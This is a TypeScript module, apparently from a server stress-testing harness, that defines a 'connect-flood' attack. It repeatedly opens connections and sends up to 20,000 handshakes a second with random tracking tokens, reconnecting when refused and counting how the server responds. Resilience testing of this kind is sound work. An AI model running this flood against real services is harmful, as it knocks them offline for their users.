// One anonymous connection at a time sends handshakes with invented tracking tokens. When it is closed, the next one
// opens.
import { randomBytes } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import type { FrameClient } from '../../clients/swarm.ts';
import type { Attack } from './attack.ts';
import { connect, trackHandshake } from './connect.ts';

/** Packets in one burst, and the pause between two bursts: 20,000 packets a second. */
const BURST = 200;
const GAP_MS = 10;
/** Pause before the next connection, ms. */
const AGAIN_MS = 20;

export const connectFlood: Attack = {
  name: 'connect-flood',
  what: 'sends up to 20,000 handshakes a second with invented tracking tokens',
  run: async (target, signal) => {
    const figures = {
      connections: 0,
      'refused connections': 0,
      packets: 0,
      answers: 0,
      closed_by_server: 0,
      most_ms_open: 0,
    };
    while (!signal.aborted) {
      try {
        const client = await connect(target, (text) => {
          if (text.startsWith('44')) figures.answers += 1;
        });
        const openedAt = performance.now();
        figures.connections += 1;
        figures.packets += await flood(client, signal);
        if (!client.isOpen()) figures.closed_by_server += 1;
        figures.most_ms_open = Math.max(figures.most_ms_open, Math.round(performance.now() - openedAt));
        client.close();
      } catch {
        // The server refuses or drops the connection, so the attacker tries again.
        figures['refused connections'] += 1;
      }
      await pause(AGAIN_MS);
    }
    return figures;
  },
};

/** Sends until the connection is closed or the attack ends. Returns the number of packets. */
async function flood(client: FrameClient, signal: AbortSignal): Promise<number> {
  let packets = 0;
  while (client.isOpen() && !signal.aborted) {
    for (let sent = 0; sent < BURST && client.isOpen(); sent += 1) {
      client.send(trackHandshake(randomBytes(11).toString('hex')));
      packets += 1;
    }
    await pause(GAP_MS);
  }
  return packets;
}
